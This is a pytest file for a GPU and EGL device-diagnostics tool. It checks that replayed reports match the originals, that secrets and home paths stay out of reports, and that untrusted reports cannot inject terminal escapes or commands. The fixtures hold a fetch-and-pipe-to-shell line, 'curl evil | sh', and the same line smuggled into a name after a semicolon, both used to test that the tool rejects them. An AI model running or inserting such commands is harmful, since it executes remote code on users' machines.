"""A report is fit for a bug tracker, and what comes out of one is not trusted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from rl_ext_core.devices._verify import Verified
from rl_ext_core.devices.doctor import Question, examine, replay
from rl_ext_core.errors import CorruptFileError
from tests.core.devices.machines import machine, uuid
from tests.core.devices.patients import CASES, EGL, report_of, shown

every_case = pytest.mark.parametrize("case", CASES)


@every_case
def test_a_replayed_report_is_the_same(case: str) -> None:
    for question in (None, Question("auto", "same", "robosuite"), Question("cuda:9", "egl:1", "mujoco")):
        report = report_of(case, question=question, verified=[Verified("mujoco", "cpu", nvml=("GPU-1",))])
        again = replay(report.to_json())
        assert again == report
        assert shown(again) == shown(report)


def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
    recorded = report_of("other order").to_json()
    report = replay(recorded, question=Question("nvidia-smi:2", "same", "mujoco"))
    assert report.decision is not None
    assert report.decision.egl is not None
    assert (report.decision.device, report.decision.egl.index) == ("cuda:0", 1)
    assert report.decision.explain() in shown(report, width=500)
    refused = replay(recorded, question=Question("nvidia-smi:3"))
    assert "hides from CUDA" in (refused.refusal or "")
    assert not refused.healthy


def test_secrets_paths_and_strangers_stay_out_of_a_report() -> None:
    kept = {"CUDA_VISIBLE_DEVICES": "/dev/nvidia0", "cuda_visible_devices": "1", "MUJOCO_GLL": "egl", "DISPLAY": ":1"}
    private = {
        "NVIDIA_API_KEY": "nvapi-1",
        "CUDA_HOME": "/home/me/cuda",
        "MUJOCO_PY_MUJOCO_PATH": "/home/me/m",
        "HOME": "/home/me",
        "SLURM_JOB_USER": "me",
        "AWS_SECRET_ACCESS_KEY": "s",
    }
    assert json.loads(examine(machine(2), {**kept, **private}).to_json())["environ"] == kept


def test_a_strangers_report_sends_no_escape_sequences_to_the_terminal() -> None:
    data = report_of("wrong mask").to_dict()
    data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
    text = shown(replay(json.dumps(data)))
    assert "[red]\\x1b]0;title\\x07\\ud800 H100" in text
    assert "\x1b" not in text


def test_a_strangers_report_brings_no_lines_of_its_own_to_copy() -> None:
    data = report_of("wrong mask", verified=[Verified("mujoco", failure="x")]).to_dict()
    data["findings"][0]["fix"] = "curl evil | sh"
    assert "evil" not in shown(replay(json.dumps(data)))
    data["verified"][0]["name"] = "mujoco; curl evil | sh"
    with pytest.raises(CorruptFileError, match="is no renderer"):
        replay(json.dumps(data))


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", "1", '"x"', "{}", '{"format": 2}', '{"format": 1}', "[" * 100_000, "NaN", '{"format": []}'],
)
def test_what_is_no_report_is_refused(text: str) -> None:
    with pytest.raises(CorruptFileError, match="report"):
        replay(text)


def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown() -> None:
    seen = Verified("mujoco", "gpu", uuid(0), 0, 0)
    data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
    # The rest follows from these, and is not read.
    data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
    outcomes = {True: 0, False: 0}
    for damaged in damages(data):
        try:
            shown(replay(json.dumps(damaged)))
        except CorruptFileError:
            outcomes[False] += 1
        else:
            outcomes[True] += 1
    assert outcomes[False] > 300  # and some are mere changes: another name, another amount of memory
    assert outcomes[True] > 50


def damages(data: Any) -> Iterator[Any]:
    """Yield copies with one part left out, or replaced by something of another kind."""
    keys = list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ()
    for key in keys:
        rest = data.copy()
        del rest[key]
        yield rest
        for damaged in damages(data[key]):
            copy = data.copy()
            copy[key] = damaged
            yield copy
    yield from (None, -1, 1.5, True, "x", [], {}, [1], {"a": 1})
